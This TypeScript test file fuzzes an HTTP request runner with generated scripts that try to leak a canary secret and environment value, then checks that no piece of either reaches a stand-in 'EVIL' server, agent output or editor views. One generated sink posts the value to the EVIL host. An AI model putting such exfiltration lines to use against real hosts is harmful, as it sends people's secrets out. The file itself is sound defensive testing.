import * as fc from 'fast-check';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { encodeValue } from '../../src/base/values/valueCodec.ts';
import { listRequests, sendDefaults } from '../../src/language/index.ts';
import { hover, listVariables } from '../../src/language/onDemand.ts';
import { createRunner, memoryExchanges, ScriptVariables, type Host, type RunEvent, type Runner } from '../../src/runner/index.ts';
import { isStorable } from '../../src/runner/scriptVariables.ts';
import { memoryWorkspace, root } from './memoryWorkspace.ts';
import { scriptWorkerBundle } from './scriptWorkerBundle.ts';
import { memoryHost } from './sendRun.ts';

/** A secret and a value of the process's environment that stand nowhere else. */
const secretText = 'zQ7canaryKx9Wm3';
const envText = 'eV5townJr8Tb2Lp';

/** Where a graph's values come from, as a placeholder. `before` requests stand above the one at hand. */
const placeholder = (before: number): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom('plain', '{{$secret.K}}', '{{$env.E}}', '{{v0}}', '{{v1}}', '{{d0}}', '{{d1 | base64}}'),
    ...(before === 0
      ? []
      : [
          fc
            .tuple(fc.nat(before - 1), fc.constantFrom('request.headers.X-H', 'request.url', 'response.body.h', 'response.body.b'))
            .map(([i, path]) => `{{r${i}.${path}}}`),
        ]),
  );

const before = [
  'pm.variables.replaceIn("{{$env.E}}")',
  'bru.interpolate("{{v1}}")',
  'tool.interpolate("{{$secret.K}}")',
  'tool.interpolate("{{$env.E}}")',
  'tool.interpolate("{{v0}} {{d1}}")',
];
const anywhere = ['tool.getVar("v0")', 'tool.vars().v1', 'request.headers["X-H"]', 'request.url', 'request.body'];
const after = ['response.text', 'response.body.h', 'response.headers["X-Back"]'];
const transforms = [
  's',
  's.slice(0, 8)',
  '[...s].reverse().join("")',
  'hex(s)',
  's.toUpperCase()',
  '[...s].join("-")',
  'tool.base64(s.slice(1))',
];
const sinks = [
  'pm.environment.set("v0", x)',
  'bru.setVar("v1", x)',
  'await bru.sendRequest({ method: "POST", url: "EVIL/?s=" + encodeURIComponent(x), data: x })',
  'tool.setVar("v0", x)',
  'tool.setVar("v1", x)',
  'console.log(x)',
  'tool.test(x, () => tool.expect(x).to.equal("no"))',
];
const changes = ['request.headers["X-S"] = x', 'request.url += "&s=" + encodeURIComponent(x)', 'request.body = x', 'tool.skip(x)'];

function script(isAfter: boolean, requests: number): fc.Arbitrary<string> {
  const sources = [...before, ...anywhere, ...(isAfter ? after : [])];
  const sends = Array.from({ length: requests }, (_, i) => `(await tool.send("r${i}")).text`);
  const step = fc
    .tuple(fc.constantFrom(...sources, ...sends), fc.constantFrom(...transforms), fc.constantFrom(...sinks, ...(isAfter ? [] : changes)))
    .map(
      ([source, transform, sink]) =>
        `try { const s = String((${source}) ?? "").replace(/[^ -~]/g, "").slice(0, 400); const x = ${transform}; ${sink}; } catch (e) { if (String(e).includes("tool.")) throw e; }`,
    );
  return fc
    .array(step, { minLength: 1, maxLength: 3 })
    .map((steps) => `const hex = (s) => [...s].map((c) => c.charCodeAt(0).toString(16)).join("");\n${steps.join('\n')}`);
}

/** One request: which of two servers it goes to, and what it is made of. */
function request(i: number): fc.Arbitrary<string> {
  const optional = (one: fc.Arbitrary<string>): fc.Arbitrary<string | undefined> => fc.option(one, { nil: undefined, freq: 2 });
  return fc
    .record({
      server: fc.constantFrom('GOOD', 'EVIL'),
      inUrl: placeholder(i),
      inHeader: placeholder(i),
      inBody: placeholder(i),
      pre: optional(script(false, i)),
      post: optional(script(true, i)),
      captures: fc.subarray(['@v0 << body.h', '@v1 << body.b', '@v1 << body.$..h', '@d0 << header X-Back'], { maxLength: 2 }),
      ref: fc.option(fc.nat(Math.max(0, i - 1)), { nil: undefined }),
    })
    .map(({ server, inUrl, inHeader, inBody, pre, post, captures, ref }) =>
      [
        `### r${i}\n# @name r${i}\n# @undefined keep`,
        ...(i > 0 && ref !== undefined ? [`# @ref r${ref}`] : []),
        ...(pre === undefined ? [] : [`< {%\n${pre}\n%}`]),
        `POST ${server}/?u=${inUrl}\nX-H: ${inHeader}\nContent-Type: text/plain\n\nb=${inBody}`,
        ...(captures.length === 0 ? [] : [`\n${captures.join('\n')}`]),
        ...(post === undefined ? [] : [`\n> {%\n${post}\n%}`]),
      ].join('\n'),
    );
}

/** A file of requests that use each other, each other's variables, and the two values. */
export const taintGraph: fc.Arbitrary<string> = fc
  .integer({ min: 1, max: 3 })
  .chain((count) => fc.tuple(...Array.from({ length: count }, (_, i) => request(i))))
  .map((requests) => `@d0 = {{v0}} {{$env.E}}\n@d1 = <{{v1}}>\n\n${requests.join('\n\n')}\n`);

const hex = (text: string): string =>
  text
    .split('')
    .map((c) => c.charCodeAt(0).toString(16))
    .join('');

/** Spellings of a value, and of any six characters of it, in small letters. Base64 keeps its case. */
function formsOf(text: string): { readonly lower: readonly string[]; readonly exact: readonly string[] } {
  const lower: string[] = [];
  const exact: string[] = [];
  for (let at = 0; at + 6 <= text.length; at++) {
    const piece = text.slice(at, at + 6).toLowerCase();
    lower.push(
      piece,
      piece.split('').toReversed().join(''),
      hex(text.slice(at, at + 6)),
      hex(text.slice(at, at + 6).toUpperCase()),
      piece.split('').join('-'),
    );
  }
  for (let at = 0; at + 9 <= text.length; at++) exact.push(Buffer.from(text.slice(at, at + 9)).toString('base64'));
  return { lower, exact };
}

const forms = { secret: formsOf(secretText), env: formsOf(envText) };

function pieceIn(text: string, { lower, exact }: (typeof forms)['env']): string | undefined {
  const small = text.toLowerCase();
  return lower.find((form) => small.includes(form)) ?? exact.find((form) => text.includes(form));
}

const asText = (x: unknown): string =>
  JSON.stringify(x, (_, v: unknown) =>
    v instanceof Map ? [...v] : v instanceof Uint8Array ? '' : typeof v === 'bigint' ? String(v) : v,
  ) ?? '';

/** Plays graphs against two servers that send back all they get. One may get the value of the environment, the other may not. */
export class TaintGraphs {
  readonly #runner: Runner;
  readonly #servers: readonly http.Server[];
  readonly #urls: readonly [good: string, evil: string];
  readonly #atEvil: string[];

  private constructor(runner: Runner, servers: readonly http.Server[], urls: readonly [string, string], atEvil: string[]) {
    this.#runner = runner;
    this.#servers = servers;
    this.#urls = urls;
    this.#atEvil = atEvil;
  }

  static async start(): Promise<TaintGraphs> {
    const atEvil: string[] = [];
    const [good, evil] = [await echo([]), await echo(atEvil)];
    const runner = createRunner({ host: memoryHost(new Map(), {}), workerFile: await scriptWorkerBundle(), userAgent: 'Req/test' });
    return new TaintGraphs(runner, [good.server, evil.server], [good.url, evil.url], atEvil);
  }

  async close(): Promise<void> {
    await this.#runner.dispose();
    for (const server of this.#servers) {
      server.closeAllConnections();
      server.close();
    }
  }

  /** Sends every request of a graph, in order, and says what is found where it may not be. */
  async play(graph: string, isAgent: boolean): Promise<readonly string[]> {
    this.#atEvil.length = 0;
    const [good, evil] = this.#urls;
    const text = graph.replaceAll('GOOD', good).replaceAll('EVIL', evil);
    const file = `${root}/a.req`;
    const files = new Map([[file, text]]);
    const variables = new ScriptVariables();
    const exchanges = memoryExchanges();
    const { workspace } = memoryWorkspace(files, { variables, exchanges, env: { E: envText } });
    const view = await workspace.know({ file, version: 1, getText: () => text });
    const host: Host = memoryHost(files, {
      env: (name) => (name === 'E' ? envText : undefined),
      secret: () => Promise.resolve(secretText),
      maySendEnvironment: (_names, _root, to) => Promise.resolve(`http://${to.host}` === good),
      ...(isAgent ? { mayLookUp: () => Promise.resolve(true) } : {}),
    });
    const found: string[] = [];
    const look = (sink: string, shown: string, kinds: readonly (keyof typeof forms)[]): void => {
      for (const kind of kinds) {
        const piece = pieceIn(shown, forms[kind]);
        if (piece !== undefined) found.push(`${sink} holds ${piece}, a piece of the ${kind} value`);
      }
    };
    for (const { block } of listRequests(view.tree)) {
      const events: RunEvent[] = [];
      const run = this.#runner.run(
        {
          context: view.contextOf(block),
          variables,
          exchanges,
          host,
          requests: () => workspace.requests(view),
          defaults: sendDefaults,
          mode: 'send',
          emit: (e) => void events.push(e),
        },
        new AbortController().signal,
      );
      await run.done;
      for (const event of events) this.#lookAt(event, run.mask, isAgent, look);
    }
    for (const sent of this.#atEvil) look('a request to the other host', sent, ['env']);
    this.#lookAtEditor(await workspace.know({ file, version: 2, getText: () => text }), variables, isAgent, look);
    return found;
  }

  /** What a run reports. A person reads the console as the script wrote it, but for secrets as they are; an agent reads neither value. */
  #lookAt(event: RunEvent, mask: (text: string) => string, isAgent: boolean, look: Look): void {
    switch (event.kind) {
      case 'chunk': {
        const shown = mask(Buffer.from(event.bytes).toString('latin1'));
        if (shown.includes(secretText)) look('the body as it is shown', shown, ['secret']);
        return;
      }
      case 'console':
      case 'test':
      case 'finished': {
        const shown = mask(asText(event));
        if (isAgent) look(`${event.kind} of an agent`, shown, ['secret', 'env']);
        else if (shown.includes(secretText)) look(event.kind, shown, ['secret']);
        return;
      }
      default:
        look(event.kind, mask(asText(event)), isAgent ? ['secret', 'env'] : ['secret']);
    }
  }

  /** What the editor stores and shows of variables. */
  #lookAtEditor(view: Parameters<typeof listVariables>[0], variables: ScriptVariables, isAgent: boolean, look: Look): void {
    for (const name of variables.names()) {
      const variable = variables.find(name);
      if (variable !== undefined && isStorable(variable))
        look(`the stored variable ${name}`, asText(encodeValue(variable.value)), ['secret']);
    }
    const block = listRequests(view.tree).at(-1)?.block;
    if (block === undefined) return;
    const list = listVariables(view, block);
    for (const { name, secret, value } of list.groups.flatMap((group) => group.variables)) {
      const result = value();
      if (!secret && result.ok) look(`the list's ${name}`, list.mask(asText(result.value)), ['secret']);
    }
    const text = view.tree.text;
    for (let at = text.indexOf('{{'); at >= 0; at = text.indexOf('{{', at + 1))
      look(`the hover at ${at}`, asText(hover(view, at + 3)?.markdown), isAgent ? ['secret', 'env'] : ['secret']);
  }
}

type Look = (sink: string, shown: string, kinds: readonly (keyof typeof forms)[]) => void;

/** Percent-encoded ASCII as it is meant; everything else stays. */
const unescape = (text: string): string =>
  text.replaceAll(/%([2-7][0-9a-f])/gi, (_, digits: string) => String.fromCharCode(Number.parseInt(digits, 16)));

/** A server that answers with what it gets, and keeps it. */
async function echo(kept: string[]): Promise<{ readonly server: http.Server; readonly url: string }> {
  const server = http.createServer((incoming, response) => {
    const chunks: Buffer[] = [];
    incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
    incoming.on('end', () => {
      const body = Buffer.concat(chunks).toString();
      const { url = '', rawHeaders } = incoming;
      kept.push(`${url}\n${rawHeaders.join('\n')}\n${body}\n${unescape(url)}`);
      const back = String(incoming.headers['x-h'] ?? '');
      response.setHeader('X-Back', back.replaceAll(/[^ -~]/g, ''));
      response.setHeader('Content-Type', 'application/json');
      response.end(JSON.stringify({ u: url, h: back, b: body }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}
